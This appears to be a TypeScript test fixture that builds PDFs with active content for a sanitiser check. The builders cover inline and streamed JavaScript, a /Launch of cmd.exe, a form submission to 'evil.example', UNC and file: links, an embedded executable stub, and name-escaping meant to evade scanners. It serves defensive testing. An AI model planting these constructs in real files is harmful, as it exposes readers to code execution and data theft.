import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
} from 'pdf-lib';

/**
 * PDFs carrying active content in the places viewers look for it, made in code. Each
 * builder gets a fresh one-page document and returns what it added; `hostilePdfs`
 * saves each with and without object streams.
 */
type Builder = (doc: PDFDocument) => void;

const js = (doc: PDFDocument, code = 'app.alert(1)') =>
  doc.context.obj({ S: 'JavaScript', JS: PDFString.of(code) });

function firstPage(doc: PDFDocument): PDFDict {
  return doc.getPage(0).node;
}

function annotate(doc: PDFDocument, annotation: Record<string, unknown>): void {
  const annot = doc.context.obj({
    Type: 'Annot',
    Rect: [50, 50, 200, 80],
    ...annotation,
  } as never);
  firstPage(doc).set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
}

export const HOSTILE: Record<string, { kind: string; build: Builder }> = {
  'catalog OpenAction with inline JavaScript': {
    kind: 'JavaScript',
    build: (doc) => doc.catalog.set(PDFName.of('OpenAction'), js(doc)),
  },
  'Names /JavaScript tree': {
    kind: 'JavaScript',
    build: (doc) => {
      const tree = doc.context.obj({
        Names: [PDFString.of('init'), doc.context.register(js(doc))],
      });
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: tree }));
    },
  },
  'page /AA open action': {
    kind: 'JavaScript',
    build: (doc) => firstPage(doc).set(PDFName.of('AA'), doc.context.obj({ O: js(doc) })),
  },
  'link annotation /A with inline JavaScript': {
    kind: 'JavaScript',
    build: (doc) => annotate(doc, { Subtype: 'Link', A: js(doc) }),
  },
  '/Next chain from a harmless GoTo': {
    kind: 'JavaScript',
    build: (doc) =>
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({
          S: 'GoTo',
          D: [doc.getPage(0).ref, 'Fit'],
          Next: [doc.context.obj({ S: 'Named', N: 'NextPage' }), js(doc)],
        }),
      ),
  },
  'JavaScript held in a stream': {
    kind: 'JavaScript',
    build: (doc) => {
      const stream = doc.context.flateStream('app.launchURL("x")');
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'JavaScript', JS: doc.context.register(stream) }),
      );
    },
  },
  'a javascript: URI': {
    kind: 'JavaScript',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'Link',
        A: doc.context.obj({ S: 'URI', URI: PDFString.of('JavaScript:app.alert(1)') }),
      }),
  },
  'a file: URI': {
    kind: 'URI scheme',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'Link',
        A: doc.context.obj({ S: 'URI', URI: PDFString.of('file:///C:/Windows/calc.exe') }),
      }),
  },
  '/Launch of a program': {
    kind: 'Launch',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'Link',
        A: doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true }),
      }),
  },
  'widget /AA SubmitForm': {
    kind: 'SubmitForm',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'Widget',
        FT: 'Btn',
        AA: doc.context.obj({
          U: doc.context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/') }),
        }),
      }),
  },
  'ImportData action': {
    kind: 'ImportData',
    build: (doc) =>
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }),
      ),
  },
  'GoToR to another file': {
    kind: 'RemoteGoTo',
    build: (doc) =>
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'GoToR', F: PDFString.of('\\\\server\\share\\x.pdf'), D: [0, 'Fit'] }),
      ),
  },
  'RichMedia annotation': {
    kind: 'RichMedia',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'RichMedia',
        RichMediaContent: doc.context.obj({ Assets: doc.context.obj({ Names: [] }) }),
      }),
  },
  'XFA form with a <script>': {
    kind: 'XFA script',
    build: (doc) => {
      const xdp = doc.context.flateStream(
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
      );
      doc.catalog.set(
        PDFName.of('AcroForm'),
        doc.context.obj({
          Fields: [],
          XFA: [PDFString.of('template'), doc.context.register(xdp)],
        }),
      );
    },
  },
  'embedded executable': {
    kind: 'EmbeddedFile',
    build: (doc) => {
      const file = doc.context.flateStream(
        'MZ\u0090\u0000 this program cannot be run in DOS mode',
        {
          Type: 'EmbeddedFile',
        },
      );
      const spec = doc.context.obj({
        Type: 'Filespec',
        F: PDFString.of('invoice.exe'),
        EF: doc.context.obj({ F: doc.context.register(file) }),
      });
      doc.catalog.set(
        PDFName.of('Names'),
        doc.context.obj({
          EmbeddedFiles: doc.context.obj({
            Names: [PDFHexString.fromText('invoice.exe'), doc.context.register(spec)],
          }),
        }),
      );
    },
  },
  'file attachment annotation': {
    kind: 'EmbeddedFile',
    build: (doc) =>
      annotate(doc, {
        Subtype: 'FileAttachment',
        FS: doc.context.obj({ Type: 'Filespec', F: PDFString.of('a.docm') }),
      }),
  },
  'JavaScript nested deep in arrays and dictionaries': {
    kind: 'JavaScript',
    build: (doc) => {
      let inner: PDFDict | PDFArray = js(doc);
      for (let i = 0; i < 10; i++) {
        inner = i % 2 ? doc.context.obj({ X: inner }) : doc.context.obj([inner]);
      }
      doc.catalog.set(PDFName.of('PieceInfo'), inner);
    },
  },
};

/** Harmless content the check must accept. */
export const HARMLESS: Record<string, Builder> = {
  'plain page': () => undefined,
  'an https link': (doc) =>
    annotate(doc, {
      Subtype: 'Link',
      A: doc.context.obj({ S: 'URI', URI: PDFString.of('https://www.moi.go.th/') }),
    }),
  'a GoTo inside the document': (doc) =>
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, 'Fit'])),
  'text that says JavaScript and /Launch': () => undefined,
};

export async function buildPdf(build: Builder, objectStreams: boolean): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('JavaScript /Launch /JS app.alert(1) - printed text, not content', {
    x: 40,
    y: 700,
    size: 10,
    font,
  });
  build(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** The same bytes with every action name written with `#xx` escapes (`/Java#53cript`). */
export function escapeNames(bytes: Buffer): Buffer {
  let text = bytes.toString('latin1');
  for (const name of ['JavaScript', 'JS', 'Launch', 'SubmitForm', 'ImportData', 'EmbeddedFiles']) {
    text = text.replaceAll(
      `/${name}`,
      `/${name.slice(0, -1)}#${name.charCodeAt(name.length - 1).toString(16)}`,
    );
  }
  return Buffer.from(text, 'latin1');
}
